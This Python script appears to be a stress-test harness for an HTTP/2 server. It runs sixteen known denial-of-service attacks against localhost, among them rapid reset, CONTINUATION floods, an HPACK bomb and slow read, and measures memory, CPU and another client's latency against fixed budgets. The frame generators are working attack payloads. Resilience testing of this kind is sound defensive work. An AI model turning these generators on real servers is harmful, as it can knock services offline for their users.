#!/usr/bin/env python3
"""Attacks on a server of HTTP/2 in clear text, and what they cost it: memory, CPU, and what another client sees meanwhile.

    attacks.py PORT PID [WORD]     the attacks whose names contain WORD

Prints a table in Markdown. Ends with status 1 where a budget does not hold: the server's memory grows by more than 32 MB
(beside the bodies of requests that it is still answering), another client is not answered, or a flood goes on without end. `abuse.rs` and `hostile.rs` beside this have a test for each budget;
this looks at the whole process, from outside.
"""

import os
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GET = b"\x82\x86\x84\x41\x01x"
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR", 9: "COMPRESSION_ERROR",
          11: "ENHANCE_YOUR_CALM"}
CONNECTIONS = 8
# How long an attack lasts that nobody ends.
SECONDS = float(os.environ.get("ATTACK_SECONDS", "20"))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    def text(data):
        if len(data) < 127:
            return bytes([len(data)]) + data
        rest, out = len(data) - 127, b"\x7f"
        while rest >= 128:
            out, rest = out + bytes([rest % 128 + 128]), rest // 128
        return out + bytes([rest]) + data

    return b"\x00" + text(name) + text(value)


POST = b"\x83\x86\x04\x05/echo\x41\x01x"


def rapid_reset():
    """HEADERS and RST_STREAM, 100,000 times (CVE-2023-44487)"""
    for stream in range(1, 200_001, 2):
        yield frame(1, 5, stream, GET) + frame(3, 0, stream, b"\0\0\0\x08")


def made_you_reset():
    """requests that are begun rightly, then broken, so that the server resets them (CVE-2025-8671)"""
    for stream in range(1, 200_001, 2):
        yield frame(1, 5, stream, GET) + frame(8, 0, stream, b"\0\0\0\0")


def continuation_flood():
    """a head that never ends, in CONTINUATION frames (CVE-2024-27316)"""
    yield frame(1, 1, 1, GET)
    for number in range(100_000):
        yield frame(9, 0, 1, literal(b"x-%d" % number, b"v" * 100))


def empty_continuations():
    """a head that never ends, in empty CONTINUATION frames"""
    yield frame(1, 1, 1, GET)
    yield from (frame(9, 0, 1) for _ in range(500_000))


def settings_flood():
    """SETTINGS, half a million, each of which wants an answer (CVE-2019-9515); nothing is read"""
    yield from (frame(4, 0, 0, b"\0\x03\0\0\0\x64") for _ in range(500_000))


def ping_flood():
    """PING, half a million, each of which wants an answer (CVE-2019-9512); nothing is read"""
    yield from (frame(6, 0, 0, b"12345678") for _ in range(500_000))


def empty_data():
    """DATA without data, half a million (CVE-2019-9518)"""
    yield frame(1, 4, 1, POST)
    yield from (frame(0, 0, 1) for _ in range(500_000))


def hpack_bomb():
    """a value of 4,000 bytes, put into the table once and named 5,000 times in each head (CVE-2016-1544)"""
    bomb = b"\x40\x01b" + b"\x7f\xa1\x1e" + b"v" * 4000 + b"\xbe" * 5000
    for stream in range(1, 401, 2):
        block = GET + (bomb if stream == 1 else b"\xbe" * 5000)
        yield frame(1, 5, stream, block[:16_000])


def header_count():
    """heads of 3,990 small fields, of which no more than 1,000 may be"""
    block = GET + literal(b"a", b"") * 3990
    yield from (frame(1, 5, stream, block[:16_000]) for stream in range(1, 401, 2))


def huge_header():
    """a field of 1 MB in one head"""
    block = GET + literal(b"a", b"v" * 1_000_000)
    yield frame(1, 1, 1, block[:16_000])
    pieces = [block[at:at + 16_000] for at in range(16_000, len(block), 16_000)]
    for piece in pieces:
        yield frame(9, 4 if piece is pieces[-1] else 0, 1, piece)


def priority_flood():
    """PRIORITY of streams that are not there, half a million (CVE-2019-9513)"""
    yield from (frame(2, 0, 1 + 2 * (n % 10_000), b"\0\0\0\0\x10") for n in range(500_000))


def window_flood():
    """WINDOW_UPDATE of one byte, half a million"""
    yield frame(1, 4, 1, POST)
    yield from (frame(8, 0, 1, b"\0\0\0\x01") for _ in range(500_000))


def tiny_windows():
    """100 answers, of which one byte at a time may come (CVE-2019-9511)"""
    yield frame(4, 0, 0, b"\0\x04\0\0\0\x01")
    for stream in range(1, 201, 2):
        yield frame(1, 5, stream, GET)
    for _ in range(11):
        yield b"".join(frame(8, 0, stream, b"\0\0\0\x01") for stream in range(1, 201, 2))


def slow_read():
    """100 answers of 60 KB that nobody takes (CVE-2019-9517); held"""
    yield frame(4, 0, 0, b"\0\x04\0\0\0\0")
    for stream in range(1, 201, 2):
        yield frame(1, 4, stream, POST)
        body = b"b" * 60_000
        pieces = [body[at:at + 16_000] for at in range(0, len(body), 16_000)]
        for piece in pieces:
            yield frame(0, 1 if piece is pieces[-1] else 0, stream, piece)


def unread_bodies():
    """100 uploads that are begun and never go on; held"""
    for stream in range(1, 201, 2):
        yield frame(1, 4, stream, POST) + frame(0, 0, stream, b"b" * 16_000)


def streams_beyond_the_limit():
    """20,000 requests at once, whatever SETTINGS say, of which no end is sent"""
    yield from (frame(1, 4, stream, POST) for stream in range(1, 40_001, 2))


ATTACKS = [rapid_reset, made_you_reset, continuation_flood, empty_continuations, settings_flood, ping_flood, empty_data,
           hpack_bomb, header_count, huge_header, priority_flood, window_flood, tiny_windows, slow_read, unread_bodies,
           streams_beyond_the_limit]
# These are let to wait; the others must end, or cost nothing.
HELD = {slow_read, unread_bodies, tiny_windows, streams_beyond_the_limit}
BLIND = {settings_flood, ping_flood, slow_read}


class Attacker(threading.Thread):
    """One connection: sends what the attack makes, and notes how it ends."""

    def __init__(self, port, attack):
        super().__init__(daemon=True)
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.attack, self.sent, self.end = attack, 0, "goes on"
        self.closed = threading.Event()

    def run(self):
        reader = threading.Thread(target=self.read, daemon=True)
        if self.attack not in BLIND:
            reader.start()
        self.socket.settimeout(SECONDS)
        began, pending = time.monotonic(), bytearray()
        self.socket.sendall(PREFACE + frame(4, 0, 0) + frame(4, 1, 0))
        if self.attack in HELD:
            time.sleep(0.3)  # a larger window is on its way
        try:
            for piece in self.attack():
                pending += piece
                if len(pending) > 50_000:
                    self.socket.sendall(pending)
                    self.sent, pending = self.sent + len(pending), bytearray()
                if time.monotonic() - began > SECONDS or self.closed.is_set():
                    break
            self.socket.sendall(pending)
            self.sent += len(pending)
        except TimeoutError:
            self.end = "blocked: the server reads no more"
        except OSError:
            pass
        if self.attack in BLIND:
            if self.attack is slow_read:
                self.closed.wait(SECONDS - (time.monotonic() - began))
            reader.start()
        self.closed.wait(max(0.5, SECONDS - (time.monotonic() - began)) if self.attack in HELD else 3)

    def receive(self):
        while True:
            try:
                return self.socket.recv(65_536)
            except TimeoutError:
                pass  # it is meant for those who send

    def read(self):
        data, answers, refused = b"", 0, 0
        try:
            while more := self.receive():
                data += more
                while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
                    length, kind = int.from_bytes(data[:3], "big"), data[3]
                    if kind == 7:
                        code = int.from_bytes(data[13:17], "big")
                        self.end = f"GOAWAY {ERRORS.get(code, code)}"
                    answers += kind == 1
                    refused += kind == 3
                    data = data[9 + length:]
        except OSError:
            pass
        if self.end == "goes on":
            self.end = "closed"
        self.closed.set()


class Honest(threading.Thread):
    """Asks once each few milliseconds over one connection, and notes how long each answer takes."""

    def __init__(self, port):
        super().__init__(daemon=True)
        self.port, self.times, self.failed, self.stop = port, [], 0, threading.Event()

    def run(self):
        client = socket.create_connection(("127.0.0.1", self.port))
        client.settimeout(10)
        while not self.stop.wait(0.003):
            began = time.monotonic()
            try:
                client.sendall(b"GET / HTTP/1.1\r\nHost: h\r\n\r\n")
                answer = b""
                while not answer.endswith(b"Hello, world"):
                    more = client.recv(4096)
                    if not more:
                        raise OSError("closed")
                    answer += more
            except OSError:
                self.failed += 1
                client = socket.create_connection(("127.0.0.1", self.port))
                client.settimeout(10)
            self.times.append(time.monotonic() - began)

    def finish(self):
        self.stop.set()
        self.join()
        times = sorted(self.times)
        return 1000 * times[len(times) // 2], 1000 * times[len(times) * 99 // 100]


def memory(pid, field):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith(field):
            return int(line.split()[1]) / 1024
    raise SystemExit("the server is gone")


def cpu(pid):
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main():
    port, pid, word = int(sys.argv[1]), int(sys.argv[2]), (sys.argv[3:] or [""])[0]
    honest = Honest(port)
    honest.start()
    time.sleep(2)
    median, slowest = honest.finish()
    print(f"Another client alone: {median:.1f} ms, p99 {slowest:.1f} ms. {CONNECTIONS} connections attack at once.\n")
    print("| attack | sent MB | end | memory, MB more | CPU s | another client: ms, p99 |")
    print("|---|--:|---|--:|--:|--:|")
    failures = []
    for attack in [attack for attack in ATTACKS if word in attack.__name__]:
        # The peak of memory counts from now on.
        open(f"/proc/{pid}/clear_refs", "w").write("5")
        before, spent = memory(pid, "VmRSS"), cpu(pid)
        honest = Honest(port)
        honest.start()
        attackers = [Attacker(port, attack) for _ in range(CONNECTIONS)]
        for attacker in attackers:
            attacker.start()
        for attacker in attackers:
            attacker.join()
        grown, spent = memory(pid, "VmHWM") - before, cpu(pid) - spent
        ends = sorted({attacker.end for attacker in attackers})
        for attacker in attackers:
            attacker.socket.close()
        median, slowest = honest.finish()
        sent = sum(attacker.sent for attacker in attackers) / 1e6
        name = attack.__doc__.splitlines()[0]
        print(f"| {name} | {sent:.1f} | {', '.join(ends)} | {grown:.1f} | {spent:.2f} | {median:.1f}, {slowest:.1f} |", flush=True)
        # A body belongs to its request for as long as that is answered: 64 KiB for each of 100 streams.
        if grown > 32 + (1.5 * sent if attack in HELD else 0):
            failures.append(f"{attack.__name__}: {grown:.1f} MB")
        if honest.failed or slowest > 2000:
            failures.append(f"{attack.__name__}: another client, {honest.failed} failed, p99 {slowest:.0f} ms")
        time.sleep(0.5)
    if failures:
        raise SystemExit("FAILED: " + "; ".join(failures))


main()
